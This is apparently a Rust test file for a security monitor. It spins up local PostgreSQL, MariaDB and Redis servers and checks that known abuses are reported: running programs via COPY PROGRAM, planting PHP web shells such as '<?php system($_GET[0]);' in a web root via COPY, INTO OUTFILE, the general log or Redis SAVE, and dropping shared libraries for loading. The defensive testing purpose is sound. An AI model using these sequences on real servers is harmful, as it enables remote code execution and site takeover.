//! Database and cache servers that are made to run programs, to load libraries and to write pages.

use std::path::PathBuf;
use std::process::Command;

use rustix::process::Signal;

use crate::host::{self, Daemon, Outcome, Skip, TempDir, User, free_port, program};
use crate::http;
use crate::scene::{Scene, Shared, Story};
use crate::server::Postgres;
use crate::told::{self, CODE, COMPONENT, DATABASE, DROPPED, Told};

/// A library that every Debian has and that nobody needs to be loaded.
const LIBRARY: &str = "/lib/x86_64-linux-gnu/libz.so.1";

pub(crate) fn stories() -> Vec<Story> {
    let mut stories = postgres();
    stories.extend(mariadb());
    stories.extend(redis());
    stories
}

/// A file's name in a folder of the document root that a user owns.
fn page(scene: &Scene, user: &str, name: &str) -> Result<PathBuf, Skip> {
    let user = User::named(user)?;
    let folder = format!("public/of-{}", user.name);
    Ok(scene.site.dir().dir(&folder, Some(&user)).join(name))
}

fn postgres() -> Vec<Story> {
    let shared = Shared::new(Postgres::start);
    let story = |name: &str, run: fn(&Scene, &Postgres) -> Outcome| {
        let shared = shared.clone();
        Story::new(name, move |scene| run(scene, shared.get()?))
    };
    vec![
        story("postgres: COPY TO PROGRAM", |scene, postgres| {
            let token = host::token();
            let out = scene.site.dir().join(&format!("storage/{token}"));
            host::write(&out, "");
            let user = &postgres.cluster.user;
            std::os::unix::fs::chown(&out, Some(user.uid), Some(user.gid)).expect("chown");
            let told = [Told::of(DATABASE, "postgresql")];
            told::expect(scene, "COPY TO PROGRAM", &told, || {
                postgres.cluster.query(&format!(
                    "COPY (SELECT '{token}') TO PROGRAM 'cat > {}'",
                    out.display()
                ));
            });
            assert_eq!(std::fs::read_to_string(out).expect("output").trim(), token);
            Ok(())
        }),
        story("postgres: COPY FROM PROGRAM, perl", |scene, postgres| {
            program("perl")?;
            let token = host::token();
            let told = [Told::of(DATABASE, "postgresql")];
            told::expect(scene, "perl", &told, || {
                let said = postgres.cluster.query(&format!(
                    "CREATE TEMP TABLE t (x text); \
                     COPY t FROM PROGRAM 'exec perl -e ''print qq({token})'''; SELECT x FROM t"
                ));
                assert!(said.contains(&token), "{said}");
            });
            Ok(())
        }),
        story("postgres: COPY TO a page", |scene, postgres| {
            let file = page(scene, "postgres", "copied.php")?;
            let told = [Told::of(CODE, "postgresql").file(file.clone())];
            told::expect(scene, "COPY TO a page", &told, || {
                postgres.cluster.query(&format!(
                    "COPY (SELECT '<?php system($_GET[0]);') TO '{}'",
                    file.display()
                ));
            });
            assert!(file.is_file());
            std::fs::remove_file(file).expect("what was written");
            Ok(())
        }),
        story("postgres: lo_export of a page", |scene, postgres| {
            let file = page(scene, "postgres", "exported.php")?;
            let told = [Told::of(CODE, "postgresql").file(file.clone())];
            told::expect(scene, "lo_export", &told, || {
                postgres
                    .cluster
                    .query("SELECT lo_from_bytea(4242, '<?php echo 1;')");
                let export = format!("SELECT lo_export(4242, '{}')", file.display());
                postgres.cluster.query(&export);
            });
            std::fs::remove_file(file).expect("what was written");
            Ok(())
        }),
        story(
            "missed: postgres: a library by lo_export, loaded",
            |scene, postgres| {
                told::need(&[LIBRARY])?;
                let file = postgres.cluster.data().join("exported.so");
                let told = Told::of(DROPPED, "postgresql");
                told::expect_at_most(scene, "LOAD", &told, || {
                    postgres
                        .cluster
                        .query(&format!("SELECT lo_import('{LIBRARY}', 4243)"));
                    let export = format!("SELECT lo_export(4243, '{}')", file.display());
                    postgres.cluster.query(&export);
                    // It is mapped before it is found to be none of PostgreSQL's.
                    let output = postgres
                        .cluster
                        .client(&format!("LOAD '{}'", file.display()))
                        .output()
                        .expect("psql");
                    let said = String::from_utf8_lossy(&output.stderr).into_owned();
                    assert!(said.contains("magic block"), "{said}");
                });
                Ok(())
            },
        ),
    ]
}

/// MariaDB with a folder of plugins that it may write, and no network.
pub(crate) struct Maria {
    // Dropped before its folder.
    _daemon: Daemon,
    pub(crate) dir: TempDir,
    pub(crate) user: User,
}

impl Maria {
    pub(crate) fn start() -> Result<Self, Skip> {
        let server = program("mariadbd")?;
        let install = program("mariadb-install-db")?;
        program("mariadb")?;
        let user = User::named("mysql").or_else(|_| User::named("www-data"))?;
        let dir = TempDir::new("mariadb");
        let data = dir.dir("data", Some(&user));
        let run = dir.dir("run", Some(&user));
        let plugins = dir.dir("plugins", Some(&user));
        let config = dir.file(
            "my.cnf",
            &format!("[mariadb]\nplugin_dir = {}\n", plugins.display()),
        );
        host::run(
            Command::new(&install)
                .args(["--no-defaults", "--auth-root-authentication-method=normal"])
                .arg(format!("--user={}", user.name))
                .arg(format!("--datadir={}", data.display())),
        );
        let mut daemon = Daemon::start(
            Command::new(&server)
                .arg(format!("--defaults-file={}", config.display()))
                .arg("--skip-networking")
                .arg(format!("--user={}", user.name))
                .arg(format!("--datadir={}", data.display()))
                .arg(format!("--socket={}", run.join("sock").display()))
                .arg(format!("--pid-file={}", run.join("pid").display())),
            dir.join("mariadb.out"),
            Signal::TERM,
        );
        daemon.ready("answer to a query", || query(&dir, "SELECT 1").is_ok());
        Ok(Self {
            _daemon: daemon,
            dir,
            user,
        })
    }

    /// What the query printed, or what is wrong with it.
    pub(crate) fn query(&self, sql: &str) -> Result<String, String> {
        query(&self.dir, sql)
    }

    /// One of its clients, told where the server is.
    pub(crate) fn client(&self, name: &str) -> Command {
        client(&self.dir, name)
    }
}

fn client(dir: &TempDir, name: &str) -> Command {
    let mut command = Command::new(program(name).expect("a client"));
    command
        .args(["--no-defaults", "-u", "root"])
        .arg(format!("--socket={}", dir.join("run/sock").display()));
    command
}

fn query(dir: &TempDir, sql: &str) -> Result<String, String> {
    let output = client(dir, "mariadb")
        .args(["-N", "-e", sql])
        .output()
        .expect("a client");
    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    if output.status.success() {
        Ok(text(&output.stdout))
    } else {
        Err(text(&output.stderr))
    }
}

fn mariadb() -> Vec<Story> {
    let shared = Shared::new(Maria::start);
    let story = |name: &str, run: fn(&Scene, &Maria) -> Outcome| {
        let shared = shared.clone();
        Story::new(name, move |scene| run(scene, shared.get()?))
    };
    vec![
        story("mariadb: INTO OUTFILE of a page", |scene, maria| {
            let file = page(scene, &maria.user.name, "outfile.php")?;
            let told = [Told::of(CODE, "mysql").file(file.clone())];
            told::expect(scene, "INTO OUTFILE", &told, || {
                let sql = format!("SELECT '<?php echo 1;' INTO OUTFILE '{}'", file.display());
                maria.query(&sql).expect("a file");
            });
            std::fs::remove_file(file).expect("what was written");
            Ok(())
        }),
        story("mariadb: a page by its general log", |scene, maria| {
            let file = page(scene, &maria.user.name, "general.php")?;
            let told = [Told::of(CODE, "mysql").file(file.clone())];
            told::expect(scene, "general log", &told, || {
                let sql = format!(
                    "SET GLOBAL general_log_file = '{}'; SET GLOBAL general_log = 1; \
                     SELECT '<?php echo 1;'; SET GLOBAL general_log = 0",
                    file.display()
                );
                // Refused by newer versions: the name must end in `.log`.
                if maria.query(&sql).is_err() {
                    let sql = format!("SELECT 1 INTO DUMPFILE '{}'", file.display());
                    maria.query(&sql).expect("a file");
                }
            });
            std::fs::remove_file(file).expect("what was written");
            Ok(())
        }),
        story("mariadb: a library by INTO DUMPFILE", |scene, maria| {
            told::need(&[LIBRARY])?;
            let plugin = maria.dir.join("plugins/udf.so");
            let told = [
                // That it is loaded, no rule says yet.
                Told::of(COMPONENT, "mysql").file(plugin.clone()),
            ];
            told::expect(scene, "CREATE FUNCTION", &told, || {
                let sql = format!(
                    "SELECT LOAD_FILE('{LIBRARY}') INTO DUMPFILE '{}'",
                    plugin.display()
                );
                maria.query(&sql).expect("a file");
                // It is mapped before the function is not found in it.
                let said = maria.query("CREATE FUNCTION f RETURNS STRING SONAME 'udf.so'");
                let said = said.expect_err("no such function");
                assert!(said.contains("Can't find symbol"), "{said}");
            });
            Ok(())
        }),
    ]
}

/// Redis that lets its clients on loopback say where it saves.
pub(crate) struct Redis {
    _daemon: Daemon,
    pub(crate) dir: TempDir,
    port: u16,
}

impl Redis {
    pub(crate) fn start() -> Result<Self, Skip> {
        use std::os::unix::process::CommandExt as _;
        let server = program("redis-server")?;
        program("redis-cli")?;
        let user = User::named("www-data")?;
        let dir = TempDir::new("redis");
        dir.dir("data", Some(&user));
        let port = free_port();
        let mut daemon = Daemon::start(
            Command::new(server)
                .args(["--bind", "127.0.0.1", "--enable-protected-configs", "local"])
                .args(["--enable-module-command", "local", "--save", ""])
                .args(["--port", &port.to_string(), "--dir"])
                .arg(dir.join("data"))
                .uid(user.uid)
                .gid(user.gid),
            dir.join("redis.out"),
            Signal::TERM,
        );
        daemon.ready("port", || http::accepts(port));
        Ok(Self {
            _daemon: daemon,
            dir,
            port,
        })
    }

    pub(crate) fn ask(&self, words: &[&str]) -> String {
        let output = host::run(
            Command::new("/usr/bin/redis-cli")
                .args(["-p", &self.port.to_string()])
                .args(words),
        );
        String::from_utf8_lossy(&output.stdout).into_owned()
    }
}

fn redis() -> Vec<Story> {
    let shared = Shared::new(Redis::start);
    let story = |name: &str, run: fn(&Scene, &Redis) -> Outcome| {
        let shared = shared.clone();
        Story::new(name, move |scene| run(scene, shared.get()?))
    };
    vec![story("redis: SAVE of a page", |scene, redis| {
        let file = scene.site.docroot().join("uploads/saved.php");
        let told = [Told::of(CODE, "redis").file(file.clone())];
        told::expect(scene, "SAVE", &told, || {
            let folder = file.parent().expect("a folder").display().to_string();
            redis.ask(&["SET", "x", "<?php system($_GET[0]);"]);
            redis.ask(&["CONFIG", "SET", "dir", &folder, "dbfilename", "saved.php"]);
            assert_eq!(redis.ask(&["SAVE"]).trim(), "OK");
            assert!(file.is_file());
            let data = redis.dir.join("data").display().to_string();
            redis.ask(&["CONFIG", "SET", "dir", &data, "dbfilename", "dump.rdb"]);
        });
        std::fs::remove_file(file).expect("what was written");
        Ok(())
    })]
}
